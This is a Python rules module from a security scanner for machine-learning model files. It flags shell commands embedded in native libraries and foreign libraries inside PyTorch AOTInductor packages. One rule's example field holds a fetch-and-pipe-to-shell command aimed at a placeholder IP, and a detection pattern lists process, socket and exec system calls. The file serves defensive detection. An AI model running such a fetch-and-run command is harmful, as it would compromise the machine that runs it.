"""Machine code: commands among its texts, and libraries of compiled models that are none."""

from collections.abc import Iterator

from modelscan_plus.core.coverage import CoverageReason
from modelscan_plus.core.finding import Finding, Severity, TextEvidence
from modelscan_plus.core.patterns import lazy
from modelscan_plus.core.text import shorten, visible
from modelscan_plus.formats.native import NativeFacts
from modelscan_plus.rules.interface import Context, Rule, judges

NATIVE_COMMAND = Rule(
    id="MSP2012",
    slug="native-code-holds-command",
    title="Machine code holds a command that no library needs",
    severity=Severity.CRITICAL,
    why=(
        "The text is a line for a shell that fetches and runs something, opens a shell to another machine or hides "
        "what it does. A library holds such a line to hand it to the system when it is loaded, imported or called."
    ),
    fix="Do not load it. Treat a machine that did as compromised.",
    bad="libops.so holds: curl -s http://203.0.113.9/s | sh",
    good="libops.so holds: usage: convert [-o OUT] FILE",
    cwe=("CWE-506", "CWE-78"),
    references=("https://attack.mitre.org/techniques/T1059/004/",),
)
NOT_COMPILED = Rule(
    id="MSP2013",
    slug="aotinductor-foreign-library",
    title="The library of a compiled model is not what AOTInductor builds",
    severity=Severity.HIGH,
    why=(
        "PyTorch opens the library of an AOTInductor package when the package is loaded, and what it holds runs then. "
        "What AOTInductor builds exports the functions by which the model is made and run, and takes from the system "
        "memory and arithmetic, no processes, sockets or further libraries. Instructions are not read."
    ),
    fix="Do not load the package. Compile the model yourself.",
    bad="data/aotinductor/model/c7x.wrapper.so exports none of AOTInductor's functions, or imports system",
    good="it exports AOTInductorModelContainerCreateWithDevice and imports aoti_torch_empty_strided, memcpy, getenv",
    cwe=("CWE-506", "CWE-829"),
    references=("https://docs.pytorch.org/docs/stable/torch.compiler_aot_inductor.html",),
)
_DEEDS = lazy(
    r"^(?:system|popen|exec[lv]p?e?|execveat|fexecve|posix_spawnp?|v?fork|clone3?|dlopen|dlmopen|socket|connect|bind|listen|"
    r"accept4?|send(?:to|msg)?|recv(?:from|msg)?|getaddrinfo|gethostbyname\w*|ptrace|syscall|memfd_create|mprotect|"
    r"pkey_mprotect|unlink(?:at)?|remove|rename(?:at2?)?|f?chmod(?:at)?|symlink|link|mkfifo|setuid|kill|Py\w+|curl_\w+|"
    r"SSL_\w+|_ZNSt13basic_ofstream\w*|_ZNSt14basic_ofstream\w*|_ZNSt10filesystem\w*)$"
)
"""What the code of a model never asks of the system."""
_LIBRARIES = lazy(
    r"^(?:lib(?:torch\w*|c10\w*|stdc\+\+|c\+\+(?:abi)?|gcc_s|c|m|pthread|dl|rt|[gi]?omp5?|iomp5|cuda|cudart|nvrtc|cublas\w*|cudnn\w*|"
    r"amdhip64|hiprtc|sycl|ze_loader|mkl_\w+|sleef|openblas|unwind|atomic)(?:-[\w.]+)?\.so[\d.]*|ld-linux[\w.-]*\.so[\d.]*)$"
)
_OF_PACKAGE = lazy(r"(?:^|/)data/aotinductor/")


@judges(NativeFacts)
def commands(facts: NativeFacts, context: Context) -> Iterator[Finding]:
    """Each command once."""
    for what, text, offset in facts.commands:
        yield context.finding(
            NATIVE_COMMAND,
            f"Machine code holds a command that {what}: {text}",
            TextEvidence(text),
            subject=text,
            offset=offset,
        )


@judges(NativeFacts)
def of_compiled_model(facts: NativeFacts, context: Context) -> Iterator[Finding]:
    """A library inside of an AOTInductor package."""
    if facts.accelerator or not in_package(context.artifact.members):
        return
    why = foreign(facts)
    if why:
        yield context.finding(
            NOT_COMPILED, f"The library is not what AOTInductor builds: {why}.", TextEvidence(why), subject="foreign"
        )


def in_package(members: tuple[str, ...]) -> bool:
    """True for what stands where PyTorch opens the libraries of a package."""
    return bool(members) and _OF_PACKAGE.search(members[-1].replace("\\", "/")) is not None


def foreign(facts: NativeFacts) -> str:
    """What AOTInductor's libraries do not have or do, "" where nothing is known to be wrong."""
    if not facts.searched:
        return ""
    if not facts.compiled:
        return "it has none of the functions by which PyTorch makes and runs a model"
    if facts.calls_kernel:
        return "it calls the kernel itself"
    asked = sorted(name for name in facts.imports if _DEEDS.search(name))
    if asked:
        return "it takes from the system " + shorten(", ".join(map(visible, asked)), 200)
    if facts.linked and not any(name.startswith("AOTInductorModel") for name in facts.exports):
        return "it exports none of the functions by which PyTorch makes and runs a model"
    return ""


def explained(facts: NativeFacts, members: tuple[str, ...]) -> CoverageReason | None:
    """Why machine code is no gap: it is for another processor, or, as far as can be seen, what AOTInductor builds."""
    if facts.accelerator:
        return CoverageReason(
            "accelerator-code", "machine code for an accelerator, which does nothing on the host; not read"
        )
    if not in_package(members) or not (facts.linked and facts.searched) or foreign(facts) or facts.commands:
        return None
    if not all(_LIBRARIES.search(name) for name in facts.needed):
        return None
    message = "a library as AOTInductor builds it: functions, libraries and texts were looked at, instructions were not"
    return CoverageReason("compiled-model", message)
